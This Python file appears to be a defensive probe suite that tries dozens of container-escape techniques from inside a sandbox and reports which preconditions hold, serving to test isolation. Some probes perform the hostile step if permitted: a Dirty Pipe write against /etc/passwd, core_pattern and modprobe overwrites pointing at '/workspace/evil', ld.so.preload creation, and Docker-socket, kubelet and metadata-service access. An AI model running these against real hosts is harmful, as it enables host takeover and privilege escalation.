"""Techniques of escape, each as far as its precondition, from inside a container.

Runs below the prelude of attacks (`call`, `attempt`, `ptrace`), with the numbers of system calls in `SYS`. Each function is
a row of docs/ESCAPES.md. It returns what it got, in one value or in a list: the name of an errno, "harmless" (it worked, and
changed nothing but the container itself), or anything else, which counts as possible.
"""
import fcntl, socket, struct, tempfile

TECHNIQUES = []


def technique(function):
    TECHNIQUES.append(function)
    return function


def system(name, *arguments):
    return call(SYS[name], *arguments) if name in SYS else "ENOSYS"


def opened(path, flags=os.O_RDONLY):
    """Opens a file and closes it again."""
    fd = attempt(os.open, path, flags | os.O_NONBLOCK)
    if isinstance(fd, int):
        os.close(fd)
        return f"opened {path}"
    return fd


def written(path, data=b"0"):
    """Writes to a file that exists."""
    fd = attempt(os.open, path, os.O_WRONLY)
    if not isinstance(fd, int):
        return fd
    answer = attempt(os.write, fd, data)
    os.close(fd)
    return answer if isinstance(answer, str) else f"wrote {path}"


def made(family, kind, protocol=0):
    """Makes a socket by the system call itself."""
    fd = system("socket", family, kind, protocol)
    return fd if isinstance(fd, str) else f"socket {family}"


def connected(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.settimeout(10)
        answer = attempt(one.connect, address)
        return answer or f"connected {address}"


def asked(fd, request, argument=bytes(256)):
    answer = attempt(fcntl.ioctl, fd, request, argument)
    return answer if isinstance(answer, str) else f"ioctl {request:#x}"


def mounted(kind, place, flags=0, source=b"none"):
    answer = system("mount", source, place, kind, flags, None)
    return answer if isinstance(answer, str) else f"mounted {kind} at {place}"


def of_the_host(path):
    """What is at a path that only a host has. An empty directory there is nothing."""
    if os.path.isdir(path) and not attempt(os.listdir, path):
        return "ENOENT"
    return f"there is {path}" if os.path.lexists(path) else "ENOENT"


def leaked(path):
    """The content of a file, which may be masked by an empty one."""

    def content():
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            return os.read(fd, 64)
        finally:
            os.close(fd)

    answer = attempt(content)
    return answer if isinstance(answer, str) else (f"read {path}" if answer else "ENOENT")


# What the control of this file itself shows.


def control_file():
    return opened("/workspace", os.O_RDONLY)


def control_socket():
    return made(socket.AF_INET, socket.SOCK_STREAM)


def control_call():
    return "worked" if system("getpid") > 0 else "ESRCH"


# Runtimes and engines.


@technique
def leaked_descriptor():
    """A descriptor of a directory of the host that the runtime forgot to close."""
    found = []
    root = os.stat("/")
    for name in os.listdir("/proc/self/fd"):
        at = attempt(os.stat, f"/proc/self/fd/{name}")
        if isinstance(at, str) or not os.path.isdir(f"/proc/self/fd/{name}") or os.readlink(f"/proc/self/fd/{name}").startswith("/proc/"):
            continue
        found.append(f"directory {name}")
    for number in range(3, 64):
        outside = attempt(os.stat, f"/proc/self/fd/{number}/../../../..")
        if not isinstance(outside, str) and (outside.st_dev, outside.st_ino) != (root.st_dev, root.st_ino):
            found.append(f"outside by {number}")
    return found or "ENOENT"


@technique
def working_directory_outside():
    """A working directory that the runtime opened on the host."""
    here = os.getcwd()
    return here if here.startswith("(unreachable)") or not os.path.isdir(here) else "harmless"


@technique
def overwritten_runtime():
    return [opened(path, flags) for path in ("/proc/1/exe", f"/proc/{os.getppid()}/exe") for flags in (os.O_WRONLY, os.O_RDWR)]


@technique
def traced_init():
    answer = ptrace(16, 1)
    return answer if isinstance(answer, str) else "traced the agent"


@technique
def mount_over_proc():
    return [mounted(b"tmpfs", b"/proc"), mounted(b"proc", b"/workspace")]


@technique
def unmasked_proc():
    return [system("umount2", path, 2) for path in (b"/proc/kcore", b"/proc/sys", b"/proc/acpi", b"/sys/firmware")]


@technique
def replaced_null():
    return [attempt(os.unlink, "/dev/null"), attempt(os.symlink, "/proc/sys/kernel/core_pattern", "/dev/console2")]


@technique
def label_redirect():
    """Writes to the files by which a runtime sets labels and limits."""
    return [written("/proc/1/attr/current"), written("/proc/1/attr/exec"), written("/proc/1/setgroups"), written("/proc/1/oom_score_adj", b"-1000")]


@technique
def shim_socket():
    names = [line.rsplit("@", 1)[1].strip() for line in open("/proc/net/unix") if "@" in line]
    found = [name for name in names if "containerd" in name or "runc" in name or "dbus" in name or "X11" in name]
    return found or connected(socket.AF_UNIX, b"\0/containerd-shim/moby/shim.sock")


@technique
def engine_socket():
    sockets = ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/run/crio/crio.sock", "/run/buildkit/buildkitd.sock")
    return [of_the_host(path) for path in sockets]


@technique
def engine_over_tcp():
    return [connected(socket.AF_INET, address) for address in (("192.168.65.7", 2375), ("172.17.0.1", 2375), ("127.0.0.1", 2375))]


@technique
def kubernetes_token():
    return [of_the_host(path) for path in ("/var/run/secrets/kubernetes.io", "/run/secrets/kubernetes.io", "/etc/kubernetes", "/var/lib/kubelet")]


@technique
def kubelet():
    return [connected(socket.AF_INET, ("127.0.0.1", port)) for port in (10250, 10255, 6443)]


@technique
def metadata_service():
    return [connected(socket.AF_INET, ("169.254.169.254", 80)), connected(socket.AF_INET, ("100.100.100.200", 80))]


@technique
def inherited_capabilities():
    held = [line.split()[1] for line in open("/proc/self/status") if line.startswith(("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"))]
    return "EPERM" if all(int(one, 16) == 0 for one in held) else held


@technique
def supplementary_groups():
    return "EPERM" if set(os.getgroups()) <= {os.getgid(), 65534} else os.getgroups()


@technique
def service_manager():
    found = [name for name in os.environ if name in ("NOTIFY_SOCKET", "LISTEN_FDS", "INVOCATION_ID", "DBUS_SESSION_BUS_ADDRESS")]
    return found or [of_the_host(path) for path in ("/run/systemd/notify", "/run/systemd/private", "/run/dbus/system_bus_socket")]


@technique
def display_server():
    return [of_the_host("/tmp/.X11-unix"), connected(socket.AF_UNIX, b"\0/tmp/.X11-unix/X0")]


@technique
def set_user_id():
    """The promise that no program gains anything, no_new_privs."""
    return "EPERM" if system("prctl", 39, 0, 0, 0, 0) == 1 else "set-user-id works"


@technique
def loader_preload():
    return [opened("/etc/ld.so.preload", os.O_WRONLY | os.O_CREAT), opened("/usr/lib/evil.so", os.O_WRONLY | os.O_CREAT), opened("/etc/passwd", os.O_WRONLY)]


# Cgroups.


@technique
def release_agent():
    files = [os.path.join(root, name) for root, _, names in os.walk("/sys/fs/cgroup") for name in names if name in ("release_agent", "notify_on_release")]
    return [system("unshare", 0x12000000), mounted(b"cgroup", b"/workspace"), mounted(b"cgroup2", b"/workspace")] + [opened(path, os.O_WRONLY) for path in files]


@technique
def device_allowance():
    return [opened(path, os.O_WRONLY) for path in ("/sys/fs/cgroup/devices/devices.allow", "/sys/fs/cgroup/devices.allow")]


@technique
def another_cgroup():
    return [opened(path, os.O_WRONLY) for path in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/../cgroup.procs")]


@technique
def raised_limits():
    return [opened(path, os.O_WRONLY) for path in ("/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes")]


@technique
def cgroup_namespace():
    return system("unshare", 0x02000000)


# Settings of the kernel.


@technique
def core_pattern():
    return written("/proc/sys/kernel/core_pattern", b"|/workspace/evil")


@technique
def modprobe_path():
    return written("/proc/sys/kernel/modprobe", b"/workspace/evil")


@technique
def binfmt_misc():
    return [opened("/proc/sys/fs/binfmt_misc/register", os.O_WRONLY), mounted(b"binfmt_misc", b"/workspace")]


@technique
def uevent_helper():
    return [opened("/sys/kernel/uevent_helper", os.O_WRONLY), opened("/proc/sys/kernel/hotplug", os.O_WRONLY)]


@technique
def usermode_helper():
    return [opened("/proc/sys/kernel/usermodehelper/bset", os.O_WRONLY), opened("/proc/sys/kernel/poweroff_cmd", os.O_WRONLY)]


@technique
def sysrq():
    return written("/proc/sysrq-trigger", b"h")


@technique
def forwarding():
    return opened("/proc/sys/net/ipv4/ip_forward", os.O_WRONLY), opened("/proc/sys/net/ipv4/conf/all/route_localnet", os.O_WRONLY)


@technique
def weakened_kernel():
    return [opened(f"/proc/sys/{path}", os.O_WRONLY) for path in ("kernel/kptr_restrict", "kernel/randomize_va_space", "kernel/yama/ptrace_scope", "vm/mmap_min_addr", "vm/overcommit_memory")]


@technique
def kernel_memory_file():
    return [leaked(path) for path in ("/proc/kcore", "/proc/kpagecount", "/proc/kpageflags", "/dev/mem", "/dev/kmem", "/dev/port")]


@technique
def kernel_addresses():
    def shown():
        lines = open("/proc/kallsyms").read(4096).splitlines()
        return [line for line in lines if int(line.split()[0], 16)]

    answer = attempt(shown)
    return answer if isinstance(answer, str) else (f"address {answer[0]}" if answer else "ENOENT")


@technique
def physical_addresses():
    """Frame numbers, which Rowhammer and flaws of page tables want."""

    def frames():
        with open("/proc/self/pagemap", "rb") as file:
            file.seek(ctypes.addressof(ctypes.create_string_buffer(8)) // 4096 * 8)
            return struct.unpack("Q", file.read(8))[0] & ((1 << 55) - 1)

    answer = attempt(frames)
    return answer if isinstance(answer, str) else (f"frame {answer}" if answer else "EPERM")


@technique
def kernel_log():
    return [system("syslog", 3, ctypes.create_string_buffer(4096), 4096), leaked("/dev/kmsg"), leaked("/proc/kmsg")]


@technique
def debugfs():
    return [of_the_host("/sys/kernel/debug"), of_the_host("/sys/kernel/tracing"), mounted(b"debugfs", b"/workspace"), mounted(b"tracefs", b"/workspace")]


@technique
def firmware():
    return [of_the_host("/sys/firmware/efi"), leaked("/sys/firmware/acpi/tables/DSDT"), opened("/sys/power/state", os.O_WRONLY)]


# Devices.


@technique
def made_device():
    return [attempt(os.mknod, "/workspace/device", kind | 0o600, os.makedev(8, 0)) or "made a device" for kind in (0o060000, 0o020000)]


@technique
def host_disk():
    return [opened("/dev/" + name) for name in ("sda", "vda", "nvme0n1", "mapper/control", "loop-control", "loop0", "btrfs-control")]


@technique
def virtual_machines():
    return [opened("/dev/" + name, os.O_RDWR) for name in ("kvm", "vhost-net", "vhost-vsock", "vsock", "userfaultfd")]


@technique
def graphics():
    return [opened("/dev/" + name, os.O_RDWR) for name in ("nvidiactl", "nvidia-uvm", "dri/card0", "kfd", "fb0")]


@technique
def binder():
    return [opened("/dev/" + name, os.O_RDWR) for name in ("binder", "hwbinder", "ashmem")]


@technique
def network_device():
    return [opened("/dev/net/tun", os.O_RDWR), opened("/dev/ppp", os.O_RDWR)]


@technique
def input_devices():
    return [opened("/dev/" + name, os.O_RDWR) for name in ("uinput", "input/event0", "uhid", "snd/seq", "hpet", "rtc0", "console", "tty0", "vcsa")]


@technique
def fuse():
    return [opened("/dev/fuse", os.O_RDWR), mounted(b"fuse", b"/workspace")]


# Namespaces and mounts.


@technique
def user_namespace():
    return [system("unshare", 0x10000000), system("clone", 0x10000000 | 17, 0, 0, 0, 0), system("clone3", None, 88)]


@technique
def network_namespace():
    return [system("unshare", 0x40000000), system("unshare", 0x50000000)]


@technique
def overlay_in_a_namespace():
    return [system("unshare", 0x10020000), mounted(b"overlay", b"/workspace")]


@technique
def user_map():
    return [written("/proc/self/uid_map", b"0 0 4294967295"), written("/proc/self/gid_map", b"0 0 4294967295")]


@technique
def entered_namespace():
    return [system("setns", os.open(f"/proc/self/ns/{name}", os.O_RDONLY), 0) for name in ("mnt", "net", "pid", "user") if os.path.exists(f"/proc/self/ns/{name}")]


@technique
def parent_namespace():
    """NS_GET_USERNS and NS_GET_PARENT lead to the namespace above."""
    fd = attempt(os.open, "/proc/self/ns/user", os.O_RDONLY)
    return fd if isinstance(fd, str) else [asked(fd, 0xB701, 0), asked(fd, 0xB702, 0)]


@technique
def file_system_context():
    return [system("fsopen", b"ext4", 0), system("fsconfig", -1, 1, b"source", b"x" * 4096, 0), system("fspick", -100, b"/", 0)]


@technique
def detached_mount():
    return [system("open_tree", -100, b"/", 1), system("move_mount", -100, b"/", -100, b"/workspace", 0), system("fsmount", -1, 0, 0)]


@technique
def mount_attributes():
    return [system("mount_setattr", -100, b"/", 0, bytes(32), 32), mounted(b"", b"/", 0x20 | 0x1000)]


@technique
def changed_root():
    return [system("chroot", b"/workspace"), system("pivot_root", b"/workspace", b"/workspace")]


@technique
def many_dots():
    os.chdir("/workspace")
    for _ in range(64):
        os.chdir("..")
    here, root = os.stat("."), os.stat("/")
    return "harmless" if (here.st_dev, here.st_ino) == (root.st_dev, root.st_ino) else os.getcwd()


@technique
def root_of_init():
    return [attempt(os.listdir, "/proc/1/root"), attempt(os.listdir, "/proc/1/cwd"), attempt(os.readlink, "/proc/1/fd/0"), opened("/proc/1/fd/0"), opened("/proc/1/mem", os.O_RDWR)]


@technique
def file_handles():
    handle = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0)
    return [system("open_by_handle_at", os.open("/workspace", os.O_RDONLY), handle, 0), system("name_to_handle_at", -100, b"/", ctypes.create_string_buffer(128), ctypes.create_string_buffer(8), 0)]


@technique
def watched_file_systems():
    return [system("fanotify_init", 0, 0), system("fanotify_mark", -1, 1, 0, -100, b"/")]


@technique
def quota_and_swap():
    return [system("quotactl", 0x800001, None, 0, None), system("swapon", b"/workspace/x", 0), system("acct", b"/workspace/x")]


# Flaws of the kernel: what each needs first.


@technique
def dirty_pipe():
    """Splices a page of a file that cannot be written into a pipe, and writes behind it."""
    path = "/etc/passwd"
    before = open(path, "rb").read()
    reader, writer = os.pipe()
    size = fcntl.fcntl(writer, 1032)
    os.write(writer, bytes(size))
    os.read(reader, size)
    fd = os.open(path, os.O_RDONLY)
    spliced = attempt(os.splice, fd, writer, 1, 0) if hasattr(os, "splice") else system("splice", fd, ctypes.byref(ctypes.c_longlong(0)), writer, None, 1, 0)
    os.write(writer, b"changed")
    if open(path, "rb").read() != before:
        return "changed a file"
    return spliced if isinstance(spliced, str) else "harmless"


@technique
def user_faults():
    return [system("userfaultfd", 0), system("userfaultfd", 1), opened("/dev/userfaultfd", os.O_RDWR)]


@technique
def asynchronous_ring():
    return [system("io_uring_setup", 8, ctypes.create_string_buffer(120)), system("io_uring_enter", -1, 0, 0, 0, None, 0), system("io_setup", 8, ctypes.create_string_buffer(8))]


@technique
def bpf_verifier():
    return [system("bpf", 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 8, 1).ljust(128, bytes(1))), 128), system("bpf", 5, ctypes.create_string_buffer(128), 128)]


@technique
def socket_filter():
    accept = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0xFFFF))
    with socket.socket() as one:
        return attempt(one.setsockopt, socket.SOL_SOCKET, 26, struct.pack("HxxxxxxQ", 1, ctypes.addressof(accept))) or "attached"


@technique
def performance_events():
    return system("perf_event_open", ctypes.create_string_buffer(struct.pack("II", 1, 112).ljust(112, bytes(1))), 0, -1, -1, 0)


@technique
def keyrings():
    return [system("add_key", b"user", b"a", b"b", 1, -3), system("keyctl", 0, -3, 1), system("request_key", b"user", b"a", None, -3)]


@technique
def packet_filter_tables():
    return [made(16, 3, 12), made(16, 3, 10)]


@technique
def ip_tables():
    with socket.socket() as one:
        return [attempt(one.setsockopt, level, 64, bytes(96)) or "replaced" for level in (0, 41)] + [made(2, 3, 255)]


@technique
def traffic_control():
    """Adds a queueing discipline to the loopback interface by a route socket."""
    fd = system("socket", 16, 3, 0)
    if isinstance(fd, str):
        return fd
    one = socket.socket(fileno=fd)
    one.settimeout(10)
    kind = struct.pack("HH", 8, 1) + b"hfs\0"
    body = struct.pack("BxxxiIII", 0, 1, 0x10000, 0xFFFFFFFF, 0) + kind
    attempt(one.send, struct.pack("IHHII", 16 + len(body), 36, 5 | 0x600, 1, 0) + body)
    answer = attempt(one.recv, 4096)
    error = -struct.unpack_from("i", answer, 16)[0] if isinstance(answer, bytes) else answer
    return error if isinstance(error, str) else errno.errorcode.get(error, "added")


@technique
def packet_sockets():
    return [made(17, kind, 768) for kind in (2, 3, 10)]


@technique
def raw_sockets():
    return [made(2, 3, 1), made(10, 3, 58), made(2, 3, 255)]


@technique
def vsock():
    return [made(40, 1), made(40, 5)]


@technique
def kernel_cryptography():
    return [made(38, 5), made(38, 2)]


@technique
def tipc():
    return [made(30, kind) for kind in (1, 2, 4, 5)]


@technique
def reliable_datagrams():
    return made(21, 5)


@technique
def bluetooth():
    return [made(31, 3, protocol) for protocol in (0, 1, 2, 3)]


@technique
def car_network():
    return [made(29, 3, 1), made(29, 2, 2), made(29, 2, 6)]


@technique
def dccp_and_sctp():
    return [made(2, 6, 33), made(2, 1, 132), made(2, 5, 132)]


@technique
def multipath():
    return [made(2, 1, 262), made(43, 1, 0), made(41, 5, 0), made(2, 2, 136)]


@technique
def express_data_path():
    return made(44, 3)


@technique
def old_networks():
    return [made(family, kind) for family in (3, 4, 5, 6, 9, 11, 12, 24, 25, 35, 36, 37, 39) for kind in (2, 5)]


@technique
def transport_encryption():
    with socket.socket() as one:
        return attempt(one.setsockopt, socket.IPPROTO_TCP, 31, b"tls") or "set"


@technique
def ip_security():
    return [made(16, 3, 6), made(15, 3, 2)]


@technique
def iscsi():
    return [made(16, 3, 8), made(16, 3, 18)]


@technique
def device_events():
    return [made(16, 3, 15), made(16, 3, 9), made(16, 3, 16)]


@technique
def watch_queue():
    """A pipe for notifications, and its size."""
    pair = (ctypes.c_int * 2)()
    answer = system("pipe2", pair, 0x80)
    return answer if isinstance(answer, str) else asked(pair[0], 0x5760, 8)


@technique
def module_loading():
    return [system("init_module", b"", 0, b""), system("finit_module", -1, b"", 0), system("delete_module", b"x", 0)]


@technique
def other_kernel():
    return [system("kexec_load", 0, 0, None, 0), system("kexec_file_load", -1, -1, 0, None, 0), system("reboot", 0xFEE1DEAD, 672274793, 0, None)]


@technique
def clock():
    return [system("settimeofday", struct.pack("qq", 0, 0), None), system("clock_settime", 0, struct.pack("qq", 0, 0)), system("adjtimex", struct.pack("I", 0x8000).ljust(208, bytes(1)))]


@technique
def input_output_ports():
    return [system("iopl", 3), system("ioperm", 0x3F8, 1, 1)]


@technique
def local_descriptor_table():
    return system("modify_ldt", 1, struct.pack("IIII", 0, 0, 4096, 0), 16)


@technique
def other_personality():
    return [system("personality", flag) for flag in (0x0040000, 0x0100000, 0x0400000)]


@technique
def other_call_table():
    return system("x32", 39) if "x32" in SYS else "ENOSYS"


@technique
def suspended_filter():
    """PTRACE_O_SUSPEND_SECCOMP takes the filter from a traced process."""
    child = os.fork()
    if child == 0:
        while True:
            time.sleep(10)
    seized = ptrace(0x4206, child, 0, 0x200000)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    return seized if isinstance(seized, str) else "suspended"


@technique
def own_listener():
    """A filter with a listener answers for the calls of its process."""
    code = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7FFF0000))
    program = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 1, ctypes.addressof(code)))
    answer = system("seccomp", 1, 8, program)
    return answer if isinstance(answer, str) else "listens"


@technique
def foreign_descriptor():
    pidfd = system("pidfd_open", 1, 0)
    return pidfd if isinstance(pidfd, str) else system("pidfd_getfd", pidfd, 0, 0)


@technique
def foreign_memory():
    here = ctypes.create_string_buffer(8)
    vector = struct.pack("QQ", ctypes.addressof(here), 8)
    return [system("process_vm_readv", 1, vector, 1, struct.pack("QQ", 0x400000, 8), 1, 0), system("process_vm_writev", 1, vector, 1, struct.pack("QQ", 0x400000, 8), 1, 0)]


@technique
def moved_pages():
    return [system("move_pages", 1, 0, None, None, None, 0), system("migrate_pages", 1, 0, None, None)]


@technique
def typed_input():
    master, slave = os.openpty()
    return [asked(slave, request, b"x") for request in (0x5412, 0x541C, 0x5423)]


@technique
def terminal_of_the_host():
    return opened("/dev/tty", os.O_RDWR), attempt(os.ttyname, 0)


@technique
def host_name():
    return [system("sethostname", b"other", 5), system("setdomainname", b"other", 5)]


@technique
def became_root():
    other = 0 if os.getuid() else 12345
    return [attempt(os.setuid, other) or "became another", attempt(os.setgid, other) or "another group", attempt(os.setgroups, [other]) or "another list"]


@technique
def file_capabilities():
    with tempfile.NamedTemporaryFile(dir="/workspace" if os.access("/workspace", os.W_OK) else "/tmp") as file:
        return attempt(os.setxattr, file.name, "security.capability", struct.pack("<IIIII", 0x02000001, 0xFFFFFFFF, 0, 0, 0)) or "set"


@technique
def regained_capabilities():
    header = ctypes.create_string_buffer(struct.pack("Ii", 0x20080522, 0))
    everything = ctypes.create_string_buffer(struct.pack("IIIIII", *[0xFFFFFFFF] * 6))
    return [system("capset", header, everything), system("prctl", 47, 2, 21, 0, 0), system("prctl", 28, 0x2F, 0, 0, 0)]


def told(function):
    """What a technique got, from a process of its own."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(60)
        try:
            answer = function()
        except OSError as error:
            answer = errno.errorcode[error.errno]
        answers = list(answer) if isinstance(answer, (list, tuple)) else [answer]
        os.write(writer, " ".join(str(one).replace(" ", "_") for one in answers).encode())
        os._exit(0)
    os.close(writer)
    answer = b""
    while part := os.read(reader, 4096):
        answer += part
    os.close(reader)
    os.waitpid(child, 0)
    return answer.decode() or "died"


for one in (control_file, control_socket, control_call, *TECHNIQUES):
    print(one.__name__, told(one), flush=True)
